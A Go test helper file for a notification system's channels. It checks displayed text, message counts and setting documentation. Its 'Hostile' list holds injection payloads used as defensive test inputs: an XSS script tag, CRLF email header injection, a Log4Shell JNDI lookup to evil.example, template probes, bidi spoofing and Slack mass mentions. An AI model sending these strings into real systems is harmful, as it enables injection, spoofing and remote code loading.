package channeltest

import (
	"strings"
	"testing"

	"cairn.example/internal/notify"
)

func one(t *testing.T, shown []Shown) {
	t.Helper()
	if len(shown) != 1 {
		t.Fatalf("the far end shows %d, want 1: %+v", len(shown), shown)
	}
}

// says checks what a person reads, whatever the line breaks.
func says(t *testing.T, m Shown, wants ...string) {
	t.Helper()
	text := strings.Join(strings.Fields(m.Text), " ")
	for _, want := range wants {
		if !strings.Contains(text, strings.Join(strings.Fields(want), " ")) {
			t.Errorf("it does not say %q:\n%s", want, m.Text)
		}
	}
}

func open(t *testing.T, m Shown, want bool) {
	t.Helper()
	if m.Open != want {
		t.Errorf("open is %v, want %v:\n%s", m.Open, want, m.Text)
	}
}

// settings checks that what a user may say of a channel is documented and checked.
func settings(t *testing.T, kind notify.Kind) {
	t.Helper()
	seen := map[string]bool{}
	for _, s := range kind.Settings {
		if s.Help == "" {
			t.Errorf("setting %s has no help", s.Name)
		}
		if seen[s.Name] {
			t.Errorf("setting %s stands twice", s.Name)
		}
		seen[s.Name] = true
		if s.Default != "" && s.Check != nil && s.Check(s.Default) != nil {
			t.Errorf("setting %s: its default is refused: %v", s.Name, s.Check(s.Default))
		}
		if s.Secret && s.Default != "" {
			t.Errorf("setting %s is a secret with a default", s.Name)
		}
	}
}

// Hostile are names that mean something in some far end's markup, protocol or query language.
var Hostile = []string{
	"<!channel> <@U012AB3CD> <https://evil.example|here>",
	"*bold* _it_ `code` ~no~ @everyone @here",
	"</pre><script>alert(1)</script><img src=https://evil.example/x>",
	"a\r\nBcc: victim@evil.example\r\n\r\nhello",
	"x^ORactive=true^EQ",
	"javascript:gs.log(1) ${jndi:ldap://evil.example} {{7*7}} {% raw %}",
	"\u202Egnp.exe\u202C \u2066x\u2069 \x1b[31mred\x1b[0m \x00",
	`"quotes" 'single' \backslash\ %0a%0d &amp; & <`,
	"[click](https://evil.example) ![x](https://evil.example/x.png) # heading",
}

// Settings writes settings as a test knows them.
func Settings(pairs ...string) notify.Settings {
	out := notify.Settings{}
	for i := 0; i+1 < len(pairs); i += 2 {
		out[pairs[i]] = append(out[pairs[i]], pairs[i+1])
	}
	return out
}
